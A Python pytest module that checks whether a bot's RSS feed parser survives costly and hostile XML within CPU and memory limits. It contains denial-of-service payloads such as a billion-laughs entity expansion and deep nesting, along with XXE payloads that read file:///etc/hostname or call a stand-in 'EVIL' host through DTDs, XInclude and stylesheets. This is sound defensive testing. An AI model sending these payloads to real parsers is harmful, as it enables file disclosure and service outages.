"""What one answer can cost: built to be expensive, each is read or stopped in seconds, in a child of limited memory."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import pytest

from bot.pool import Pool
from bot.types.document import Gathered
from bot.types.source import ParseFailure
from tests.fakes import records
from tests.fakes.web import WebServer

SOURCE = records.source("src", kind="feed", jurisdiction="INT")
COSTED = "tests.fakes.watched:gather_costed"
GOOD = "<item><title>good</title><link>https://e.org/1</link></item>"
MOST = 5.0  # seconds of CPU; production allows as much of the wall's
PATIENCE = 60.0  # seconds on the wall, where others work on the same machine


def rss(inside: str, attributes: str = "") -> bytes:
    return f"<rss version='2.0'{attributes}><channel>{GOOD}{inside}</channel></rss>".encode()


def item(inside: str) -> bytes:
    return rss(f"<item><title>costly</title>{inside}</item>")


def broken(body: bytes) -> bytes:
    """The same, no longer well-formed: every way to read it is tried."""
    return body.replace(b"</channel>", b"<nope:x></chanel>&bogus;")


COSTLY: Mapping[str, bytes] = {
    "nested tags": item("<description>" + "<a>" * 100_000 + "</a>" * 100_000 + "</description>"),
    "nested items": rss("<item>" * 30_000 + "</item>" * 30_000),
    "many items": rss("<item><title>x</title></item>" * 40_000),
    "one author": item(f"<author>{'a' * 32_000}@</author>"),
    "author of dots": item(f"<author>a@{'a.' * 16_000}!</author>"),
    "comment starts": item("<description>" + "&lt;!--" * 40_000 + "</description>"),
    "comments": rss("<!--" * 100_000),
    "comment dashes": rss("<!--" + "-" * 200_000 + "->" * 100_000),
    "attributes": rss("<item " + " ".join(f"a{n}='x'" for n in range(100_000)) + "><title>x</title></item>"),
    "one attribute": rss(f"<item a='{'x' * 3_000_000}'><title>x</title></item>"),
    "name spaces": rss("", "".join(f" xmlns:n{n}='urn:{n}'" for n in range(50_000))),
    "prefixes": rss("".join(f"<n{n}:x/>" for n in range(50_000))),
    "name spaces inside": rss("".join(f"<n{n}:item xmlns:n{n}='urn:{n}'/>" for n in range(20_000))),
    "character data": item(f"<description><![CDATA[{'<p>' * 1_000_000}]]></description>"),
    "open character data": rss("<![CDATA[" * 100_000),
    "character references": item("<description>" + "&#65;" * 1_000_000 + "</description>"),
    "hex references": item("<description>" + "&#x4E2D;" * 500_000 + "</description>"),
    "references without end": item("<description>&#" + "9" * 1_000_000 + "</description>"),
    "entities": item("<description>" + "&eacute;" * 400_000 + "</description>"),
    "ampersands": item("<description>" + "&" * 1_000_000 + "</description>"),
    "brackets": item("<description>" + "<" * 1_000_000 + "</description>"),
    "titles": rss("<item>" + "<title>x</title>" * 100_000 + "</item>"),
    "links": rss("<item><title>x</title>" + "<link>https://e.org/</link>" * 50_000 + "</item>"),
    "instructions": rss("<?x y?>" * 200_000),
    "doctype": b"<!DOCTYPE x [" + b"<!ENTITY a 'b'>" * 50_000 + b"]>" + rss(""),
    "doctype without end": b"<!DOCTYPE x [" + b"<!ENTITY a 'b' [" * 50_000 + rss(""),
    "laughs": b"<!DOCTYPE x [<!ENTITY a 'ha'>"
    + b"".join(b"<!ENTITY %c '%s'>" % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]>"
    + item("<description>&j;&j;</description>"),
    "long entity": b"<!DOCTYPE x [<!ENTITY a '"
    + b"a" * 60_000
    + b"'>]>"
    + item("<description>" + "&a;" * 60_000 + "</description>"),
    "blanks": b" " * 4_000_000 + rss(""),
    "dates": rss("".join(f"<item><title>{n}</title><pubDate>{'9' * 300} {n}</pubDate></item>" for n in range(2_000))),
    "markup in titles": rss(f"<item><title>{'&lt;b ' * 100_000}</title></item>"),
    "declarations": rss("<?xml version='1.0' encoding='utf-8'" * 50_000),
}
SAMPLE = ("nested tags", "attributes", "author of dots", "laughs", "doctype without end", "comments", "many items")


@pytest.fixture(scope="module")
def pool() -> Iterator[Pool]:
    with Pool(1, memory_mb=700) as found:
        yield found


def costed(pool: Pool, body: bytes) -> tuple[list[str], float]:
    """The titles that a costly feed gives, and the seconds that it takes."""
    found, seconds = pool.call(COSTED, SOURCE, records.answer(body, SOURCE), deadline=PATIENCE)
    assert isinstance(found, Gathered), found
    return [document.title for document, _ in found.documents], seconds


@pytest.mark.slow
@pytest.mark.parametrize("name", SAMPLE)
def test_a_costly_feed_is_read_in_time(pool: Pool, name: str) -> None:
    titles, seconds = costed(pool, COSTLY[name])
    assert "good" in titles
    assert len(titles) <= 2_000
    assert seconds < MOST


@pytest.mark.soak
@pytest.mark.timeout(300)
@pytest.mark.parametrize("name", COSTLY)
def test_a_costly_feed_is_read_in_time_however_broken(pool: Pool, name: str) -> None:
    for body in (COSTLY[name], broken(COSTLY[name])):
        titles, seconds = costed(pool, body)
        assert "good" in titles
        assert len(titles) <= 2_000
        assert seconds < MOST


ENTITY = b"<!DOCTYPE rss [<!ENTITY a SYSTEM 'file:///etc/hostname'>]>"
REACHING: Mapping[str, bytes] = {
    "external entity": ENTITY + item("<description>&a;</description>"),
    "external subset": b"<!DOCTYPE rss SYSTEM 'http://EVIL/x.dtd'>" + rss(""),
    "parameter entity": b"<!DOCTYPE rss [<!ENTITY % a SYSTEM 'http://EVIL/x'> %a;]>" + rss(""),
    "public subset": b"<!DOCTYPE rss PUBLIC '-//Netscape//DTD RSS 0.91//EN' 'http://EVIL/x.dtd'>" + rss(""),
    "style sheet": b"<?xml-stylesheet href='http://EVIL/x.xsl' type='text/xsl'?>" + rss(""),
    "schema": rss("", " xmlns:i='http://www.w3.org/2001/XMLSchema-instance' i:schemaLocation='a http://EVIL/x'"),
    "include": rss("<x:include xmlns:x='http://www.w3.org/2001/XInclude' href='http://EVIL/x'/>"),
    "links": item("<link>http://EVIL/</link><enclosure url='http://EVIL/a.mp3'/><comments>http://EVIL/c</comments>"),
    "markup": item("<description>&lt;img src='http://EVIL/x.png'>&lt;iframe src='//EVIL'></description>"),
    "picture": rss("<image><url>http://EVIL/favicon.ico</url></image><cloud domain='EVIL' port='80'/>"),
    "base": rss("", " xml:base='http://EVIL/'"),
    "a path": b"/etc/hostname",
    "an address": b"http://EVIL/feed.xml",
    "a file": b"file:///etc/hostname",
}


@pytest.mark.slow
@pytest.mark.parametrize("name", REACHING)
@pytest.mark.parametrize("damage", [bytes, broken], ids=["whole", "broken"])
def test_reading_reaches_for_nothing(pool: Pool, name: str, damage: Callable[[bytes], bytes]) -> None:
    """No address, entity, style sheet or path in an answer is followed.

    The interpreter's own audit sees what Python opens; what a C library would open, the server or the text shows.
    """
    with WebServer() as evil:
        body = damage(REACHING[name].replace(b"EVIL", evil.netloc.encode()))
        found, seen = pool.call(
            "tests.fakes.watched:gather_observed", SOURCE, records.answer(body, SOURCE), deadline=30
        )
        assert evil.connections == 0
    assert seen == []
    machine = Path("/etc/hostname")
    if machine.is_file():
        assert machine.read_text().strip() not in repr(found)
    assert isinstance(found, Gathered if b"<rss" in body else ParseFailure)
